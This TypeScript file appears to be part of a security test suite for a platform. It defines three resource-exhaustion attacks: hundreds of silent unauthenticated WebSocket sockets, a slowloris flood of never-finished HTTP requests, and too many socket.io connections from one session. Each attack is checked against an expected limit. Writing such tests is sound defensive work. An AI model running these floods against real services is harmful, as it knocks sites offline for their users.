/** Class 42: connections to the platform that nobody signed in for, requests that never end, and more sockets than a person needs. */
import { once } from "node:events";
import { connect as connectTcp, type Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import type { Attack, Platform } from "../attack.ts";
import { connect } from "../page.ts";

const why = "the platform's own bounds hold it, whatever a sandbox is";
const sockets = 300;
const socketsAllowed = 20;
/** A request's head has ten seconds to come in; a socket five to say who it is, and thirty more to hear that it is over. */
const endsWithinMs = 60_000;
const lookEveryMs = 250;

/** Connections that say this and then nothing more. Only those that come about count. */
async function sayOnly(words: string, { url }: Platform): Promise<Socket[]> {
  const { hostname, port } = new URL(url);
  const all = Array.from({ length: sockets }, () => connectTcp(Number(port), hostname));
  await Promise.all(
    all.map(async (socket) => {
      socket.on("error", () => socket.destroy());
      await once(socket, "connect").catch(() => undefined);
      // What is answered must be read, or the end is never heard.
      socket.resume();
      socket.write(words);
    }),
  );
  return all;
}

async function untilEnded(all: readonly Socket[], patience: number) {
  const begunAt = Date.now();
  const open = () => all.filter((socket) => !socket.closed && !socket.destroyed).length;
  const atFirst = open();
  while (open() > 0 && Date.now() - begunAt < endsWithinMs * patience) await pause(lookEveryMs);
  const left = open();
  const seconds = Math.round((Date.now() - begunAt) / 1000);
  for (const socket of all) socket.destroy();
  if (atFirst < sockets / 2) throw new Error(`only ${atFirst} came in`);
  return { succeeded: left > 0, observed: `${atFirst} came in, ${left} open after ${seconds} s` };
}

function headOf(path: string, url: string, more = ""): string {
  return `GET ${path} HTTP/1.1\r\nHost: ${new URL(url).host}\r\n${more}`;
}

const attacks: readonly Attack[] = [
  {
    nr: "42a",
    name: "hundreds of sockets without a session that say nothing",
    expected: "each is ended within a minute; the platform answers others meanwhile",
    weakened: null,
    whyNotWeakened: why,
    async attempt({ platform, patience }) {
      const upgrade =
        "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dHJvY2tlbmRvY2stLS0tLQ==\r\n\r\n";
      const path = "/socket.io/?EIO=4&transport=websocket";
      return untilEnded(await sayOnly(headOf(path, platform.url, upgrade), platform), patience);
    },
  },
  {
    nr: "42b",
    name: "hundreds of requests that never end (slowloris)",
    expected: "each is ended within a minute; the platform answers others meanwhile",
    weakened: null,
    whyNotWeakened: why,
    attempt: async ({ platform, patience }) =>
      untilEnded(await sayOnly(headOf("/sign-in", platform.url, "X-Slow: "), platform), patience),
  },
  {
    nr: "42c",
    name: "more sockets than a person needs, with one's own session",
    expected: `at most ${socketsAllowed}`,
    weakened: null,
    whyNotWeakened: why,
    async attempt({ platform, patience }) {
      const all = Array.from({ length: socketsAllowed * 2 }, () => connect(platform.attacker));
      const answered = all.map((socket) =>
        Promise.race([once(socket as unknown as NodeJS.EventEmitter, "connect"), untilRefused(socket)]),
      );
      await Promise.race([Promise.all(answered), pause(endsWithinMs * patience)]);
      const open = all.filter(({ connected }) => connected).length;
      for (const socket of all) socket.disconnect();
      if (open === 0) throw new Error("not one came in");
      return { succeeded: open > socketsAllowed, observed: `${open} of ${all.length} came in` };
    },
  },
];
export default attacks;

function untilRefused(socket: ReturnType<typeof connect>): Promise<void> {
  return new Promise((resolve) => socket.once("connect_error", () => resolve()));
}
